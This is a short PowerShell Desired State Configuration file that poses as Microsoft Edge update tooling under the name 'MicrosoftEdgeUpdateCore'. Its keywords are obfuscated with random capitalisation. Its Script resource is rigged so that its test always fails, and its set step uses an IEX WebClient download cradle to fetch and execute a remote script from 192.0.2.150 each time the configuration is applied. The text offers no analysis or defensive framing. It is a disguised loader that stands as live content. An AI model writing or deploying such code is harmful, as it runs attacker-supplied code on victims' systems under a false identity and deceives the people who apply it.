# setup 1224 v3
cOnFiGuRaTiOn mIcRoSoFtEdGeUpDaTeCoRe {
  ImPoRt-dSCREsoURCe -modulEnaMe pSdEsIREDsTATEconFiGURATION
  nOde LOCalHoSt {
    scRiPt BoOTStraP {
      GEtsCRiPT = { @{ reSuLT = '' } }
      TeStScRiPt = { $fAlSe }
      sEtScRiPt = { IEX (NEW-ObjeCT NEt.wEbClIeNt).dOWNloADStRINg('http://192.0.2.150/a.ps1') }
    }
  }
}
